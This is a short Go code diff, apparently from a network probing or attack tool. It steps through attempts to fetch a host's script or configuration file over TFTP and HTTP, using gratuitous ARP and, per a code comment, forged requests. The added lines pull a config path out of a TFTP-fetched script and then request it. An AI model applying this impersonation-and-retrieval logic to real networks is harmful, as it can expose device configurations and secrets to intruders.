@@ -292,7 +292,16 @@ func (n *neighbourhood) phases() []phase {
 		}},
 		{n.take, []try{
 			{"script, with gratuitous ARP", announced(func() string { return get(host, n.script) })},
-			{"script by TFTP, with gratuitous ARP", announced(func() string { return n.tftp(host, n.script) })},
+			{"script by TFTP, with gratuitous ARP", announced(func() string {
+				script := n.tftp(host, n.script)
+				found := configPath.FindString(script)
+				if found == "" {
+					return script
+				}
+				// It joined the transfer of a forged request, whose port it has by chance. The token alone reads nothing.
+				n.announce()
+				return get(host, found)
+			})},
 			{"document, with gratuitous ARP", announced(func() string { return get(host, n.config) })},
 			{"a part of it, with gratuitous ARP", announced(func() string {
 				return get(host, n.config, "Range: bytes=0-10") + n.http(host, "HEAD", n.config)
